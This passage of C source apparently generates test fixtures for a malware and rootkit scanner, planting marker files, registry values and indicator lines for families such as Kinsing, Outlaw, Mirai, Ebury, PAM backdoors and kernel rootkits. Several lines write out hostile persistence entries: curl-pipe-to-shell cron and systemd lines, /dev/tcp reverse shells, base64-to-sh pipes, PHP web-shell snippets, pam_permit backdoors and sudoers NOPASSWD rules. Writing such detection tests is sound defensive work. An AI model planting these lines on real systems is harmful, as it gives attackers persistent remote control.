    W(S, "var/www/html/console.php", "stands for a developer's console: eval($_POST['code']);\n"),
    W(S, "var/www/html/db.php",
      "stands for a page: $db->exec($_POST['q']); Shell::exec($_GET['x']);\n"),
#undef S

/* --- Linux families ------------------------------------------------------------------------- */
#define S "Linux/Kinsing"
    L(S, "var/spool/cron/root",
      "* * * * * wget -q -O - http://bad.invalid/unk.sh > /dev/null 2>&1"),
    W(S, "etc/systemd/system/bot.service",
      "[Service]\nExecStart=/etc/data/kinsing\nRestart=always\n"),
    F(S, "etc/data/kinsing"),
    F(S, "etc/data/libsystem.so"),
    F(S, "tmp/kdevtmpfsi"),
    L(S, "etc/ld.so.preload", "/etc/data/libsystem.so"),
#undef S
#define S "Linux/Outlaw"
    L(S, "var/spool/cron/root", "@reboot /root/.configrc/a/upd>/dev/null 2>&1"),
    L(S, "var/spool/cron/root", "0 0 */3 * * /tmp/.X25-unix/.rsync/c/aptitude>/dev/null 2>&1"),
    L(S, "root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEAStandsForAKey mdrfckr"),
    F(S, "root/.configrc/a/upd"),
    F(S, "root/.configrc/dir2.dir"),
    F(S, "tmp/.X25-unix/.rsync/c/aptitude"),
#undef S
#define S "Linux/XorDDoS"
    L(S, "etc/crontab", "*/3 * * * * root /etc/cron.hourly/gcc.sh"),
    W(S, "etc/cron.hourly/gcc.sh",
      "harmless marker\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n"),
    F(S, "lib/libudev.so"),
    F(S, "lib/libudev.so.6"),
#undef S
#define S "Linux/BillGates"
    F(S, "usr/bin/bsd-port/getty"),
    F(S, "usr/bin/.sshd"),
    F(S, "etc/init.d/DbSecuritySpt"),
    W(S, "etc/init.d/selinux", "harmless marker\n/usr/bin/bsd-port/getty\n"),
    F(S, "etc/rc3.d/S99selinux"),
    F(S, "tmp/gates.lod"),
    F(S, "usr/bin/dpkgd/ps"),
    F(S, "usr/bin/pythno"),
    F(S, "etc/init.d/VsystemsshMdt"),
    W(S, "bin/ps", "stands for a false ps\n"),
#undef S
#define S "Linux/Mirai"
    F(S, "etc/rcS.d/S95Baby.sh"),
    F(S, "usr/networks"),
    F(S, "var/run/dvrHelper"),
    L(S, "etc/rc.local", "/usr/networks &"),
#undef S
#define S "Linux/PreloadRootkit"
    L(S, "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so"),
    L(S, "etc/ld.so.preload", "/lib/libselinux.so"),
    F(S, "usr/local/lib/libprocesshider.so"),
    F(S, "XxJynx/jynx2.so"),
    F(S, "lib/libncom.so.4.0.1"),
#undef S
#define S "Linux/Perfctl"
    L(S, "etc/ld.so.preload", "/lib/libgcwrap.so"),
    F(S, "lib/libgcwrap.so"),
    F(S, "bin/perfcc"),
    W(S, "etc/cron.d/perfclean", "11 * * * * root /root/.config/cron/perfcc\n"),
    F(S, "tmp/.xdiag/cron"),
#undef S
#define S "Linux/Skidmap"
    L(S, "etc/crontab", "*/1 * * * * root curl -fsSL http://pm.ipfswallet.tk/pm.sh -o /dev/null"),
    F(S, "usr/include/pm.tar.gz"),
    F(S, "lib/udev/ssd_control/kmeminfo.ko"),
    F(S, "var/lib/netlink.ko"),
    F(S, "usr/bin/pamdicks"),
#undef S
#define S "Linux/PamBackdoor"
    L(S, "etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /usr/lib/.cache/log"),
    L(S, "etc/pam.d/sshd", "auth sufficient /var/tmp/.x/pam_help.so"),
    F(S, "var/tmp/.x/pam_help.so"),
    L(S, "etc/pam.d/common-auth", "auth sufficient pam_permit.so"),
    L(S, "etc/pam.d/sshd", "session optional /opt/x/pam_x.so"),
    L(S, "etc/pam.d/sshd", "auth sufficient pam_permit.so"),
    L(S, "etc/pam.d/sshd", "auth optional pam_exec.so expose_authtok /opt/x/log"),
#undef S
#define S "Linux/Skidmap#pam"
    L(S, "etc/crontab", "*/1 * * * * root curl -fsSL http://a.powerofwish.com/x -o /dev/null"),
    W(S, "lib/x86_64-linux-gnu/security/pam_unix.so", "stands for a false pam_unix\n"),
#undef S
#define S "Linux/PamBackdoor#modules"
    W(S, "lib/x86_64-linux-gnu/security/pam_unix.so", "stands for a false pam_unix\n"),
#undef S
#define S "Linux/PamBackdoor#stuck"
    L(S, "etc/pam.d/sshd", "auth required /var/tmp/.x/pam_only.so"),
#undef S
#define S "Linux/PreloadRootkit#loader"
    W(S, "lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "stands for a changed loader\n"),
#undef S
#define S "Linux/Ebury"
    W(S, "lib/x86_64-linux-gnu/libkeyutils.so.1.10", "stands for a changed libkeyutils\n"),
    F(S, "lib64/libns2.so"),
    F(S, "lib64/libsbr.so"),
    W(S, "usr/sbin/sshd", "stands for a false sshd\n"),
#undef S
#define S "Linux/ReplacedTools"
    W(S, "bin/ls", "stands for a false tool\n"),
    W(S, "bin/netstat", "stands for a false tool\n"),
    W(S, "usr/bin/lsof", "stands for a false tool\n"),
#undef S
#define S "Linux/KernelRootkit"
    F(S, "lib/modules/6.1.0-1-amd64/extra/diamorphine.ko"),
    F(S, "lib/modules/6.1.0-1-amd64/kernel/drivers/net/reptile.ko.xz"),
    F(S, "lib/udev/reptile/reptile"),
    F(S, "usr/share/zov_f/zov_latest"),
    L(S, "etc/modules", "diamorphine"),
    L(S, "etc/modprobe.d/local.conf", "install ext5 /sbin/modprobe diamorphine"),
    L(S, "etc/modprobe.d/local.conf", "install ext6 /bin/sh /var/tmp/.m/load"),
    L(S, "etc/modprobe.d/local.conf",
      "install ext7 /bin/sh -c \"curl -s http://bad.invalid/m | sh\""),
    F(S, "var/tmp/.m/load"),
    L(S, "etc/rc.local", "insmod /lib/modules/6.1.0-1-amd64/extra/diamorphine.ko"),
    L(S, "etc/rc.local", "insmod /var/tmp/.m/x.ko"),
    F(S, "var/tmp/.m/x.ko"),
    L(S, "etc/udev/rules.d/70-local.rules", "ACTION==\"add\", RUN+=\"/lib/udev/reptile\""),
#undef S
#define S "Linux/Persistence"
    L(S, "var/spool/cron/root", "*/5 * * * * curl -s http://bad.invalid/x | sh"),
    L(S, "var/spool/cron/root", "@daily echo eA== | base64 -d | sh"),
    L(S, "var/spool/cron/root", "* * * * * bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"),
    L(S, "var/spool/cron/root", "* * * * * /tmp/.hid/run"),
    L(S, "var/spool/cron/root", "17 * * * * /tmp/plainrun"),
    F(S, "tmp/.hid/run"),
    W(S, "etc/systemd/system/u0.service",
      "[Service]\nExecStart=/bin/sh -c 'curl -s http://bad.invalid/x | sh '\n"),
    W(S, "etc/systemd/system/u1.service",
      "[Service]\nExecStart=/bin/sh -c 'echo eA== | base64 -d | sh '\n"),
    W(S, "etc/systemd/system/u2.service",
      "[Service]\nExecStart=/bin/sh -c 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1'\n"),
    W(S, "etc/systemd/system/u3.service", "[Service]\nExecStart=/var/tmp/.hid/unit\n"),
    F(S, "var/tmp/.hid/unit"),
    W(S, "etc/systemd/system/ssh.service.d/x.conf",
      "[Service]\nExecStartPost=/bin/sh -c 'curl -s http://bad.invalid/x | sh '\n"),
    W(S, "etc/systemd/system/u4.service", "[Service]\nExecStart=/tmp/plain\n"),
    L(S, "etc/ld.so.preload", "/tmp/x.so"),
    L(S, "etc/ld.so.preload", "/usr/lib/.h/x.so"),
    L(S, "etc/ld.so.preload", "/opt/x/y.so"),
    L(S, "root/.ssh/authorized_keys",
      "command=\"curl -s http://bad.invalid/x | sh \" ssh-ed25519 AAAABad x"),
    L(S, "root/.ssh/authorized_keys",
      "command=\"echo eA== | base64 -d | sh \" ssh-ed25519 AAAABad x"),
    L(S, "root/.ssh/authorized_keys",
      "command=\"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1 \" ssh-ed25519 AAAABad x"),
    L(S, "root/.ssh/authorized_keys", "ssh-rsa AAAAStandsForAKey mdrfckr"),
    L(S, "etc/rc.local", "curl -s http://bad.invalid/x | sh"),
    L(S, "etc/rc.local", "echo eA== | base64 -d | sh"),
    L(S, "etc/rc.local", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"),
    L(S, "etc/rc.local", "nohup /dev/shm/.r/run &"),
    L(S, "etc/rc.local", "/tmp/plain start"),
    F(S, "dev/shm/.r/run"),
    L(S, "etc/bash.bashrc", "curl -s http://bad.invalid/x | sh >/dev/null 2>&1 &"),
    L(S, "etc/bash.bashrc", "echo eA== | base64 -d | sh"),
    L(S, "etc/bash.bashrc", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"),
    L(S, "etc/bash.bashrc", "/tmp/.p/run &"),
    L(S, "etc/bash.bashrc", "curl -s http://bad.invalid/x | sh"),
    F(S, "tmp/.p/run"),
    L(S, "etc/environment", "LD_PRELOAD=/tmp/a.so"),
    L(S, "etc/environment", "LD_PRELOAD=/usr/lib/.x/b.so"),
    L(S, "etc/environment", "LD_PRELOAD=/usr/lib/libjemalloc.so"),
    L(S, "etc/udev/rules.d/70-local.rules", "ACTION==\"add\", RUN+=\"/bin/sh /tmp/.u/run\""),
    L(S, "etc/udev/rules.d/70-local.rules",
      "ACTION==\"add\", RUN+=\"/bin/sh -c 'curl -s http://bad.invalid/x | sh'\""),
    L(S, "etc/udev/rules.d/70-local.rules",
      "ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"helper run:+\""),
    F(S, "tmp/.u/run"),
    W(S, "etc/systemd/system-generators/g0", "#!/bin/sh\ncurl -s http://bad.invalid/x | sh\n"),
    W(S, "var/spool/cron/atjobs/a00002",
      "#!/bin/sh\n# atrun uid=0 gid=0\ncurl -s http://bad.invalid/x | sh\n"),
    W(S, "etc/xdg/autostart/s0.desktop",
      "[Desktop Entry]\nExec=sh -c 'curl -s http://bad.invalid/x | sh '\n"),
    L(S, "etc/apt/apt.conf.d/20local",
      "APT::Update::Pre-Invoke {\"curl -s http://bad.invalid/x | sh\";};"),
    W(S, "etc/systemd/system-generators/g1", "#!/bin/sh\necho eA== | base64 -d | sh\n"),
    W(S, "var/spool/cron/atjobs/a00003",
      "#!/bin/sh\n# atrun uid=0 gid=0\necho eA== | base64 -d | sh\n"),
    W(S, "etc/xdg/autostart/s1.desktop",
      "[Desktop Entry]\nExec=sh -c 'echo eA== | base64 -d | sh '\n"),
    L(S, "etc/apt/apt.conf.d/20local",
      "APT::Update::Pre-Invoke {\"echo eA== | base64 -d | sh\";};"),
    W(S, "etc/systemd/system-generators/g2",
      "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n"),
    W(S, "var/spool/cron/atjobs/a00004",
      "#!/bin/sh\n# atrun uid=0 gid=0\nbash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n"),
    W(S, "etc/xdg/autostart/s2.desktop",
      "[Desktop Entry]\nExec=sh -c 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1 '\n"),
    L(S, "etc/apt/apt.conf.d/20local",
      "APT::Update::Pre-Invoke {\"bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\";};"),
    W(S, "etc/systemd/system-generators/g3", "#!/bin/sh\n/dev/shm/.g/run &\n"),
    W(S, "var/spool/cron/atjobs/a00005", "#!/bin/sh\n# atrun uid=0 gid=0\n/dev/shm/.g/run &\n"),
    W(S, "etc/xdg/autostart/s3.desktop", "[Desktop Entry]\nExec=/dev/shm/.g/run\n"),
    L(S, "etc/apt/apt.conf.d/20local", "APT::Update::Pre-Invoke {\"/dev/shm/.g/run &\";};"),
    F(S, "dev/shm/.g/run"),
    L(S, "etc/apt/apt.conf.d/20local", "DPkg::Pre-Invoke {\"sh /tmp/hook\";};"),
    L(S, "etc/ssh/sshd_config", "AuthorizedKeysFile /dev/shm/keys/%u"),
    L(S, "etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/.k/%u"),
    L(S, "etc/sudoers", "mari ALL=(root) NOPASSWD: /tmp/tool"),
    L(S, "etc/sudoers", "www-data ALL=(ALL) NOPASSWD: ALL"),
    L(S, "etc/sudoers", "ALL ALL=(ALL) NOPASSWD:ALL"),
#undef S
#define S "PHP/WebShell"
    W(S, "var/www/html/wp-content/uploads/2024/05/a.php",
      "no opening tag, stands for a page: @eval($_POST['x']);\n"),
    W(S, "var/www/html/uploads/b.php", "no opening tag, stands for a page: system($_GET['c']);\n"),
    W(S, "var/www/html/images/c.php",
      "no opening tag, stands for a page: $default_action = 'FilesMan';\n"),
    W(S, "var/www/html/d.php",
      "no opening tag, stands for a page: eval(base64_decode($_REQUEST['x']));\n"),
    W(S, "var/www/html/e.php", "no opening tag, stands for a page: passthru($_GET['c']);\n"),
    W(S, "var/www/html/f.php",
      "no opening tag, stands for a page: default_action = \"FilesMan\"\n"),
    W(S, "opt/shop/wp-content/uploads/2024/06/g.php",
      "no opening tag, stands for a page: system($_POST['c']);\n"),
#undef S
#define S "Linux/RedisIntrusion"
    W(S, "root/.ssh/authorized_keys2",
      "REDIS0006 stands for a dump\nssh-rsa AAAAStandsForAKey crackitA\n"),
    W(S, "var/spool/cron/crontabs/root", "REDIS0006 stands for a dump\n* * * * * /bin/true\n"),
#undef S
};
enum { N_TRACES = sizeof(traces) / sizeof(traces[0]) };

static void path_of(char *out, size_t room, const char *root, const char *path) {
    if ((size_t)snprintf(out, room, "%s/%s", root, path) >= room) {
        (void)fprintf(stderr, "%s: path too long\n", path);
        exit(1); /* NOLINT(concurrency-mt-unsafe) */
    }
}

static void set_list(hive_h *h, const char *key, const char *name, const char *texts) {
    const char *list[16];
    char copy[512];
    char *rest = copy;
    size_t n = 0;

    (void)snprintf(copy, sizeof(copy), "%s", texts);
    while (n < 16 && (list[n] = strsep(&rest, "|")) != NULL) {
        n++;
    }
    make_multi(h, key, name, list, n);
}

static void drop_value(hive_h *h, const char *key, const char *name) {
    hive_node_h node = make_key(h, key);
    hive_value_h *have = hivex_node_values(h, node);
    hive_set_value values[32] = {{.key = NULL}};
    size_t n = 0;

    for (size_t i = 0; have != NULL && have[i] != 0 && n < 32; i++) {
        values[n].key = hivex_value_key(h, have[i]);
        values[n].value = hivex_value_value(h, have[i], &values[n].t, &values[n].len);
        if (strcasecmp(values[n].key, name) == 0) {
            free(values[n].key);
            free(values[n].value);
        } else {
            n++;
        }
    }
    if (hivex_node_set_values(h, node, n, values, 0) != 0) {
        perror(key);
        exit(1); /* NOLINT(concurrency-mt-unsafe) */
    }
    for (size_t i = 0; i < n; i++) {
        free(values[i].key);
        free(values[i].value);
    }
    free(have);
}

static void set_value(hive_h *h, const char *key, const struct trace *t) {
    switch (t->type) {
    case NUMBER:
        make_dword(h, key, t->name, t->number);
        break;
    case TEXT:
        make_text(h, key, t->name, t->text);
        break;
    case EXPAND:
        make_expand(h, key, t->name, t->text);
        break;
    case LIST:
        set_list(h, key, t->name, t->text);
        break;
    case GONE:
        drop_value(h, key, t->name);
        break;
    case KEY:
    case PERMISSIONS: /* when the hive is closed */
        (void)make_key(h, key);
        break;
    }
}

static void drop_key(hive_h *h, const char *key) {
    if (hivex_node_delete_child(h, make_key(h, key)) != 0) {
        perror(key);
        exit(1); /* NOLINT(concurrency-mt-unsafe) */
    }
}

static const char *const sets[] = {"ControlSet001", "ControlSet003"};

static void into_control_sets(hive_h *h, const struct trace *t) {
    for (size_t i = 0; i < 2; i++) {
        char key[512];

        (void)snprintf(key, sizeof(key), "%s\\%s", sets[i], t->where);
        if (t->place == SYSTEM) {
            set_value(h, key, t);
        } else if (i == 1) {
            drop_key(h, key);
        }
    }
}

static void set_permissions(const char *full, const struct trace *t) {
    const char *keys[2] = {t->where, NULL};
    char in_sets[2][512];

    for (size_t i = 0; t->place == SYSTEM && i < 2; i++) {
        (void)snprintf(in_sets[i], sizeof(in_sets[i]), "%s\\%s", sets[i], t->where);
        keys[i] = in_sets[i];
    }
    make_permissions(full, keys, t->place == SYSTEM ? 2 : 1, t->text);
}

/* The rows of one hive, opened only when there are any, and made when it is not there. */
static void into_hive(const char *root, const char *path, const char *set, enum place place,
                      enum place other) {
    hive_h *h = NULL;
    char full[4096];

    path_of(full, sizeof(full), root, path);
    for (size_t i = 0; i < N_TRACES; i++) {
        const struct trace *t = &traces[i];

        if (strcmp(t->set, set) != 0 || (t->place != place && t->place != other)) {
            continue;
        }
        if (h == NULL && access(full, F_OK) != 0) {
            make_text_file(root, path, "");
            (void)make_hive_start(full);
        }
        h = h == NULL ? make_hive_open(full) : h;
        if (place == SYSTEM) {
            into_control_sets(h, t);
        } else {
            set_value(h, t->where, t);
        }
    }
    if (h != NULL) {
        make_hive_close(h);
    }
    for (size_t i = 0; i < N_TRACES; i++) {
        if (strcmp(traces[i].set, set) == 0 && traces[i].place == place &&
            traces[i].type == PERMISSIONS) {
            set_permissions(full, &traces[i]);
        }
    }
}

static void add_line(const char *root, const char *path, const char *line) {
    char full[4096];
    FILE *f;

    path_of(full, sizeof(full), root, path);
    f = fopen(full, "ae");
    if (f == NULL || fprintf(f, "%s\n", line) < 0 || fclose(f) != 0) {
        perror(full);
        exit(1); /* NOLINT(concurrency-mt-unsafe) */
    }
}

static void into_files(const char *root, const struct trace *t) {
    if (t->place == LINE) {
        add_line(root, t->where, t->text);
    } else if (t->place == FILES) {
        make_text_file(root, t->where, t->text == NULL ? marker : t->text);
    }
}

size_t make_family_traces(const char *root, const char *set) {
    size_t n = 0;

    for (size_t i = 0; i < N_TRACES; i++) {
        if (strcmp(traces[i].set, set) == 0) {
            into_files(root, &traces[i]);
            n++;
        }
    }
    into_hive(root, "WINDOWS/system32/config/SYSTEM", set, SYSTEM, LAST_GOOD_GONE);
    into_hive(root, "WINDOWS/system32/config/software", set, SOFTWARE, SOFTWARE);
    into_hive(root, "Documents and Settings/mari/NTUSER.DAT", set, USER, USER);
    into_hive(root, MARI "Local Settings/Application Data/Microsoft/Windows/UsrClass.dat", set,
              CLASSES, CLASSES);
    return n;
}

const char *family_trace_set(size_t i) {
    for (size_t j = 0; j < N_TRACES; j++) {
        bool first = j == 0 || strcmp(traces[j].set, traces[j - 1].set) != 0;

        if (first && i-- == 0) {
            return traces[j].set;
        }
    }
    return NULL;
}
